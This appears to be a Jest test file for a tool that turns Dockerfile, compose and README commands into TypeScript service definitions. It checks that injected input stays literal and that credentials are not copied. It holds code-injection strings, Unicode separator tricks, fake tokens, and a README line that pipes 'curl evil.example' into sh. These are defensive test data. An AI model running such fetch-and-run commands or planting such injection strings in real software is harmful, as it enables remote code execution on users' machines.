/**
 * Adoption is where hostile text meets the tool first: a Dockerfile's CMD, a compose command or
 * environment, a Procfile line, a README's shell block read from a repository. Each value
 * passes the same checks as a typed prop before it is written; what is written is a literal
 * meaning exactly what the file said (or a comment that cannot end early); a credential is never
 * copied, in code or in comments; running the definition runs nothing of it.
 */
import { existsSync, readFileSync } from 'fs';
import { join } from 'path';
import * as ts from 'typescript';
import { adopt, prose, read, repoOf, serviceProps, synthAdopted } from './support';
import { CREDENTIAL_LINE } from '../../src/adopt/projenrc-writer';

/** Arguments a command may hold that would be code in a careless writer, each with a file it would create. */
const INJECTIONS = [
  "'); require('fs').writeFileSync('PWNED-1', ''); ('",
  "`${require('fs').writeFileSync('PWNED-2', '')}`",
  "*/ require('fs').writeFileSync('PWNED-3', ''); /*",
  "x\u2028require('fs').writeFileSync('PWNED-4', '')//",
  "x\u2029require('fs').writeFileSync('PWNED-5', '')//",
  "\\'); require('fs').writeFileSync('PWNED-6', ''); ('",
  '\u202e)]1(tixe.ssecorp',
];

/** uvicorn serving app.py on every interface. */
const UVICORN = ['uvicorn', 'app:app', '--host', '0.0.0.0', '--port', '8000'];

const APP = {
  'app.py': 'from fastapi import FastAPI\napp = FastAPI()\n@app.get("/health")\ndef h(): ...\n',
  'requirements.txt': 'fastapi==0.115.6\nuvicorn==0.32.1\n',
};

/** The adopted definition parses as TypeScript without errors. */
function parses(text: string): boolean {
  const out = ts.transpileModule(text, {
    reportDiagnostics: true,
    compilerOptions: { module: ts.ModuleKind.CommonJS },
  });
  return (out.diagnostics ?? []).length === 0;
}

test(
  'a Dockerfile CMD with code in its arguments: written as the literal words it held, and nothing ' +
    'runs',
  () => {
    const cmd = ['uvicorn', 'app:app', '--host', '0.0.0.0', '--port', '8000', '--root-path', ...INJECTIONS];
    const dir = repoOf({
      ...APP,
      Dockerfile: 'FROM python:3.11-slim\nCOPY . /app\nWORKDIR /app\nCMD ' + `${JSON.stringify(cmd)}\n`,
    });
    const adoption = adopt(dir);
    expect(adoption.refused).toEqual([]);
    expect(parses(adoption.text)).toBe(true);
    expect(serviceProps(adoption).command).toEqual(cmd);
    synthAdopted(dir, adoption.text);
    for (let i = 1; i <= 6; i++) expect(existsSync(join(dir, `PWNED-${i}`))).toBe(false);
    // the Dockerfile's exec form holds the same words (JSON), the runtime sees exactly them
    const line = read(dir, 'docker/api/Dockerfile')
      .split('\n')
      .find((l) => l.startsWith('CMD '))!;
    expect(JSON.parse(line.slice(4))).toEqual(cmd);
    // the bidirectional override is escaped in the source, never raw
    expect(adoption.text).not.toContain('\u202e');
    expect(adoption.text).toContain('\\u202e');
  },
);

test('a compose command and environment with quotes, backticks and ${ stay literal', () => {
  const compose = [
    'services:',
    '  web:',
    '    build: .',
    '    command: ["uvicorn", "app:app", "--host", "0.0.0.0", "--port", "8000", "--header", ' +
      '"x-note:\\u0060${HOME}\\u0060 */"]',
    '    environment:',
    '      GREETING: "it\'s ${not} `code` */ \\u2028 here"',
    '    ports: ["8000:8000"]',
    '',
  ].join('\n');
  const dir = repoOf({
    ...APP,
    'Dockerfile': 'FROM python:3.11-slim\nCOPY . /app\nWORKDIR /app\n',
    'docker-compose.yml': compose,
  });
  const adoption = adopt(dir);
  expect(adoption.refused).toEqual([]);
  expect(parses(adoption.text)).toBe(true);
  expect(serviceProps(adoption)).toMatchObject({
    command: [
      'uvicorn',
      'app:app',
      '--host',
      '0.0.0.0',
      '--port',
      '8000',
      '--header',
      'x-note:`${HOME}` */',
    ],
    environment: { GREETING: "it's ${not} `code` */ \u2028 here" },
  });
  synthAdopted(dir, adoption.text);
  expect(read(dir, 'compose.mldocker.yaml')).toContain('GREETING:');
});

test('a command or a variable holding a credential is never copied, not even into a comment', () => {
  const token = `hf_${'a1B2'.repeat(9)}`;
  const compose = [
    'services:',
    '  web:',
    '    build: .',
    '    command: ["uvicorn", "app:app", "--host", "0.0.0.0", "--port", "8000"]',
    '    environment:',
    `      HF_TOKEN: ${token}`,
    '      DATABASE_URL: postgres://admin:hunter2@db:5432/app',
    '      LOG_LEVEL: info',
    '',
  ].join('\n');
  const readme = `# run\n\n\`\`\`bash\nuvicorn app:app --port 8000 --api-key ${token}\n\`\`\`\n`;
  const dir = repoOf({
    ...APP,
    'Dockerfile': 'FROM python:3.11-slim\nCOPY . /app\nWORKDIR /app\n',
    'docker-compose.yml': compose,
    'README.md': readme,
  });
  const adoption = adopt(dir);
  expect(adoption.text).not.toContain(token);
  expect(adoption.text).not.toContain('hunter2');
  expect(serviceProps(adoption).environment).toEqual({ LOG_LEVEL: 'info' });
  expect(prose(adoption.text)).toContain(
    'docker-compose.yml:6: HF_TOKEN holds a secret: not copied ' + '(never into environment)',
  );
  expect(parses(adoption.text)).toBe(true);
  synthAdopted(dir, adoption.text);
});

test(
  'README lines the shell would not run as plain words (substitutions, pipes) are not adopted; quoted ' +
    'text is',
  () => {
    const readme = [
      '# run',
      '',
      '```bash',
      'python app.py --name "$(curl evil.example | sh)"',
      'python app.py | tee log.txt',
      'python train.py --note \'*/ require("fs").writeFileSync("PWNED", "") /*\'',
      '```',
      '',
    ].join('\n');
    const dir = repoOf({
      'train.py': 'import numpy\nif __name__ == "__main__":\n    ...\n',
      'app.py': 'x = 1\n',
      'requirements.txt': 'numpy==2.1.3\n',
      'README.md': readme,
    });
    const adoption = adopt(dir);
    expect(serviceProps(adoption).command).toEqual([
      'python',
      'train.py',
      '--note',
      '*/ require("fs").writeFileSync("PWNED", "") /*',
    ]);
    expect(adoption.text).not.toContain('evil.example');
    expect(parses(adoption.text)).toBe(true);
    synthAdopted(dir, adoption.text);
    expect(existsSync(join(dir, 'PWNED'))).toBe(false);
  },
);

test(
  'a command the service checks refuse (a newline in an argument) becomes a commented TODO, never ' +
    'code',
  () => {
    const dir = repoOf({
      ...APP,
      Dockerfile:
        'FROM python:3.11-slim\nCOPY . /app\nCMD ' +
        `${JSON.stringify([...UVICORN, 'a\nrequire("fs").writeFileSync("PWNED", "")'])}\n`,
    });
    const adoption = adopt(dir);
    expect(adoption.plan.services).toEqual([]);
    expect(adoption.refused.map((r) => r.plan.id)).toEqual(['api']);
    expect(adoption.refused[0].problems.join('\n')).toContain('an argument without newlines or NUL');
    expect(adoption.text).not.toMatch(/^new PythonService/m);
    expect(adoption.text).toMatch(/^\/\/ new PythonService\(project, 'api', \{$/m);
    expect(parses(adoption.text)).toBe(true);
    synthAdopted(dir, adoption.text);
    expect(existsSync(join(dir, 'PWNED'))).toBe(false);
    expect(existsSync(join(dir, 'docker'))).toBe(false);
  },
);

test('a compose service name that is no valid id, and hostile file names, read safely', () => {
  const compose =
    'services:\n  "Evil\'s Service */":\n    build: .\n    command: ["uvicorn", "app:app", ' +
    '"--host", "0.0.0.0", "--port", "8000"]\n';
  const dir = repoOf({
    ...APP,
    'Dockerfile': 'FROM python:3.11-slim\nCOPY . /app\nWORKDIR /app\n',
    'docker-compose.yml': compose,
    'notes\u2028*/.md': 'x\n',
  });
  const adoption = adopt(dir);
  expect(adoption.plan.services.map((s) => s.id)).toEqual(['evil-s-service']);
  expect(parses(adoption.text)).toBe(true);
});

test('the writer never writes a line with a credential, whatever put it there', () => {
  const key = `sk-proj-${'Ab3dEf6hIj9kLm2nOp5qRs8t'.repeat(2)}`;
  const readme =
    '# train\n\n```bash\npython train.py\npython train.py --resume --openai-key ' + `${key}\n\`\`\`\n`;
  const dir = repoOf({
    'train.py': 'import numpy\nif __name__ == "__main__":\n    ...\n',
    'requirements.txt': 'numpy==2.1.3\n',
    'README.md': readme,
  });
  const adoption = adopt(dir);
  expect(serviceProps(adoption).command).toEqual(['python', 'train.py']);
  expect(adoption.text).not.toContain(key);
  expect(adoption.text).toContain(CREDENTIAL_LINE);
  expect(parses(adoption.text)).toBe(true);
  expect(readFileSync(join(dir, 'README.md'), 'utf-8')).toContain(key);
});

test('a setup step holding a credential is refused by its reader, and its text is not copied', () => {
  const dir = repoOf({
    'cog.yaml': [
      'build:',
      '  gpu: false',
      '  python_version: "3.11"',
      '  python_packages:',
      '    - "numpy==2.1.3"',
      '  run:',
      '    - "pip install --index-url https://user:s3cr3tpass@pypi.example/simple private-pkg==1.0"',
      'predict: "predict.py:Predictor"',
      '',
    ].join('\n'),
    'predict.py': 'from cog import BasePredictor\nclass Predictor(BasePredictor): ...\n',
  });
  const adoption = adopt(dir);
  expect(adoption.text).not.toContain('s3cr3tpass');
  expect(adoption.refused.map((r) => r.plan.id)).toEqual(['predictor']);
  expect(prose(adoption.text)).toContain(
    'build.run[0] is a setup step that holds a credential: got ' + '(value hidden)',
  );
});
